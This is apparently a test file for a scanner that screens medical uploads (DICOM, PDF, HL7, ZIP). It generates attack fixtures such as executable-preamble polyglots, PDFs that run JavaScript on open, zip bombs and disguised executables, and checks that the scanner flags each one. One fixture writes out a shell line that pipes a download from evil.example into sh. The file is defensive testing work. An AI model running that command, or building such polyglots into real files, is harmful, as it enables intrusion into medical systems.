import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import type { ScanResult } from "../../app/verdict/scan-result.ts";
import { TIERS, type Tier } from "../../app/verdict/tiers.ts";
import { CLAM_EXE } from "../harness/clamd.ts";
import { describeResult, startScanStack, type ScanStack } from "../harness/scan-stack.ts";
import { BASIC_ELEMENTS, buildDicom, privateElements, text } from "../fixtures/dicom.ts";
import { hl7WithScript, pdfWithObjStmJs, pdfWithOpenActionJs, png } from "../fixtures/documents.ts";
import { eicar } from "../fixtures/eicar.ts";
import { markEncrypted, nestedZip, zipOf, zipWithLargeMember } from "../fixtures/zips.ts";

const clamExe = readFileSync(CLAM_EXE);
const from = (tier: Tier) => TIERS.slice(TIERS.indexOf(tier));
const MiB = 1024 * 1024;

/** An Encapsulated PDF object: the document whole in (0042,0011), padded to even length. */
function encapsulatedPdf(pdf: Buffer): Buffer {
  const value = pdf.length % 2 ? Buffer.concat([pdf, Buffer.alloc(1)]) : pdf;
  return buildDicom({ elements: [...BASIC_ELEMENTS.filter((e) => e.group !== 0x7fe0), { group: 0x0042, element: 0x0011, vr: "OB", value }] });
}

interface Attack {
  readonly name: string;
  readonly fileName: string;
  readonly build: (stack: ScanStack) => Promise<string>;
  readonly from: Tier;
  /** A finding id that must be among the findings at every tier from `from` on. */
  readonly expect: string;
}

const attacks: Attack[] = [
  { name: "PE preamble polyglot", fileName: "pe.dcm", from: "free", expect: "dicom.preamble-executable", build: (s) => s.file("pe.dcm", buildDicom({ preamble: clamExe.subarray(0, 128) })) },
  { name: "ELF preamble polyglot", fileName: "elf.dcm", from: "free", expect: "dicom.preamble-executable", build: (s) => s.file("elf.dcm", buildDicom({ preamble: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) })) },
  { name: "#! preamble polyglot", fileName: "sh.dcm", from: "free", expect: "dicom.preamble-executable", build: (s) => s.file("sh.dcm", buildDicom({ preamble: Buffer.from("#!/bin/sh\ncurl evil.example | sh\nexit 0\n") })) },
  {
    name: "executable inside a private tag",
    fileName: "private.dcm",
    from: "gold",
    expect: "analysis.embedded-executable",
    // The PE sits after 100 random bytes, so it is not at the start of the value: only analysis looks there.
    build: (s) => s.file("private.dcm", buildDicom({ elements: [...BASIC_ELEMENTS, ...privateElements(Buffer.concat([randomBytes(100), clamExe]))] })),
  },
  { name: "EICAR", fileName: "eicar.txt", from: "free", expect: "Test.EICAR.UNOFFICIAL", build: (s) => s.file("eicar.txt", eicar()) },
  { name: "PDF whose OpenAction runs JavaScript", fileName: "report.pdf", from: "premium", expect: "PDF_OpenAction_JavaScript", build: (s) => s.file("report.pdf", pdfWithOpenActionJs()) },
  { name: "PDF whose OpenAction runs JavaScript from a FlateDecode object stream", fileName: "objstm.pdf", from: "premium", expect: "PDF_OpenAction_JavaScript", build: (s) => s.file("objstm.pdf", pdfWithObjStmJs()) },
  { name: "the same PDF, as analysis sees it", fileName: "objstm.pdf", from: "gold", expect: "analysis.pdf-javascript", build: (s) => s.file("objstm2.pdf", pdfWithObjStmJs()) },
  { name: "encapsulated-PDF DICOM whose PDF runs JavaScript from an object stream", fileName: "report.dcm", from: "premium", expect: "PDF_OpenAction_JavaScript", build: (s) => s.file("encapsulated.dcm", encapsulatedPdf(pdfWithObjStmJs())) },
  { name: "the same DICOM, as analysis sees it", fileName: "report.dcm", from: "gold", expect: "analysis.pdf-javascript", build: (s) => s.file("encapsulated2.dcm", encapsulatedPdf(pdfWithObjStmJs())) },
  {
    name: "DICOM pointing a viewer at a file share",
    fileName: "share.dcm",
    from: "gold",
    expect: "Network_Reference_In_DICOM",
    build: (s) => s.file("share.dcm", buildDicom({ elements: [...BASIC_ELEMENTS, { group: 0x0008, element: 0x1190, vr: "UR", value: text("smb://10.1.2.3/share/viewer.exe ") }] })),
  },
  { name: "HL7 message carrying a script", fileName: "result.hl7", from: "premium", expect: "HL7_Script_Injection", build: (s) => s.file("result.hl7", hl7WithScript()) },
  { name: "zip bomb", fileName: "bomb.zip", from: "free", expect: "archive.ratio-exceeded", build: async (s) => s.file("bomb.zip", await zipOf([{ name: "scan.dcm", data: Buffer.alloc(64 * MiB) }])) },
  { name: "ZIP nested past the limit", fileName: "nested.zip", from: "free", expect: "archive.too-deep", build: async (s) => s.file("nested.zip", await nestedZip(4, Buffer.from("hello"))) },
  { name: "encrypted ZIP", fileName: "secret.zip", from: "free", expect: "archive.encrypted", build: async (s) => s.file("secret.zip", markEncrypted(await zipOf([{ name: "report.txt", data: Buffer.from("private data ".repeat(100)) }]))) },
  {
    name: "ZIP member bigger than clamd's MaxFileSize with the payload at its end",
    fileName: "large.zip",
    from: "free",
    expect: "archive.entry-too-large",
    build: async (s) => {
      const target = await s.file("large.zip", Buffer.alloc(0));
      await zipWithLargeMember(target, 513 * MiB, eicar());
      return target;
    },
  },
  {
    name: "deflated DICOM hiding clam.exe",
    fileName: "deflated.dcm",
    from: "free",
    expect: "clam.exe.UNOFFICIAL",
    build: (s) => s.file("deflated.dcm", buildDicom({ transferSyntax: "1.2.840.10008.1.2.1.99", elements: [...BASIC_ELEMENTS, ...privateElements(clamExe)] })),
  },
  {
    name: "ELF program in a study ZIP next to a real DICOM",
    fileName: "study.zip",
    from: "free",
    expect: "archive.member-executable",
    build: async (s) => s.file("elf-study.zip", await zipOf([{ name: "study/IM0001.dcm", data: buildDicom() }, { name: "study/viewer", data: readFileSync("/bin/true") }])),
  },
  {
    name: "a type off the allow-list in a study ZIP (a Windows shortcut named .dcm)",
    fileName: "study.zip",
    from: "free",
    expect: "archive.member-type-not-allowed",
    build: async (s) => s.file("lnk-study.zip", await zipOf([{ name: "study/IM0001.dcm", data: buildDicom() }, { name: "study/IM0002.dcm", data: Buffer.concat([Buffer.from("4c0000000114020000000000c000000000000046", "hex"), randomBytes(200)]) }])),
  },
  { name: "PNG named .dcm", fileName: "image.dcm", from: "free", expect: "validation.extension-mismatch", build: (s) => s.file("image.dcm", png()) },
];

describe("generated attacks are not clean from the tier named", () => {
  let stack: ScanStack;
  before(async () => {
    stack = await startScanStack();
  });
  after(() => stack.close());

  for (const attack of attacks) {
    it(`${attack.name}: not clean from ${attack.from}`, async () => {
      const file = await attack.build(stack);
      for (const tier of from(attack.from)) {
        const r: ScanResult = await stack.scan(file, tier, { bypassCache: true });
        assert.notEqual(r.status, "clean", `${tier}: ${describeResult(r)}`);
        assert.notEqual(r.status, "error", `${tier}: ${describeResult(r)}`);
        assert.ok(r.findings.some((f) => f.id === attack.expect), `${tier}: expected ${attack.expect} in ${describeResult(r)}`);
      }
    });
  }

  it("the deflated DICOM's clam.exe is found by clamd in the content cut out of the inflated dataset", async () => {
    const file = await stack.file("d.dcm", buildDicom({ transferSyntax: "1.2.840.10008.1.2.1.99", elements: [...BASIC_ELEMENTS, ...privateElements(clamExe)] }));
    const r = await stack.scan(file, "free");
    assert.equal(r.status, "infected", describeResult(r));
    const hit = r.findings.find((f) => f.engine === "clamav");
    assert.ok(hit && hit.target.startsWith("carved-pe@"), describeResult(r));
  });

  it("a study ZIP of clean DICOMs plus one polyglot names the bad member", async () => {
    const members = [0, 1, 2].map((i) => ({ name: `study/IM000${i}.dcm`, data: buildDicom() }));
    members.push({ name: "study/IM0003.dcm", data: buildDicom({ preamble: clamExe.subarray(0, 128) }) });
    const file = await stack.file("study.zip", await zipOf(members));
    const r = await stack.scan(file, "free");
    assert.equal(r.status, "infected", describeResult(r));
    const hit = r.findings.find((f) => f.id === "archive.member-preamble-executable");
    assert.match(hit?.description ?? "", /study\/IM0003\.dcm/);
    const clean = await stack.file("clean-study.zip", await zipOf(members.slice(0, 3)));
    assert.equal((await stack.scan(clean, "gold")).status, "clean");
  });

  it("a clean deflated DICOM, a clean PNG, HL7 and PDF stay clean at every tier", async () => {
    const { hl7, plainPdf, compressedPdf, fhirJson } = await import("../fixtures/documents.ts");
    const files = [
      await stack.file("ok-deflated.dcm", buildDicom({ transferSyntax: "1.2.840.10008.1.2.1.99" })),
      await stack.file("ok.png", png()),
      await stack.file("ok.hl7", hl7()),
      await stack.file("ok.pdf", plainPdf()),
      await stack.file("ok-compressed.pdf", compressedPdf()),
      await stack.file("ok-encapsulated.dcm", encapsulatedPdf(compressedPdf())),
      // A segmentation writer's home page in Software Versions and a DICOMweb Retrieve URL are ordinary.
      await stack.file(
        "ok-urls.dcm",
        buildDicom({
          elements: [
            ...BASIC_ELEMENTS,
            { group: 0x0008, element: 0x1190, vr: "UR", value: text("https://pacs.example.org/dicomweb/studies/1.2.3 ") },
            { group: 0x0018, element: 0x1020, vr: "LO", value: text("dcmqi https://github.com/QIICR/dcmqi ") },
          ],
        }),
      ),
      await stack.file("ok.json", fhirJson()),
    ];
    for (const file of files) {
      for (const tier of TIERS) {
        const r = await stack.scan(file, tier);
        assert.equal(r.status, "clean", `${path.basename(file)} at ${tier}: ${describeResult(r)}`);
      }
    }
  });
});
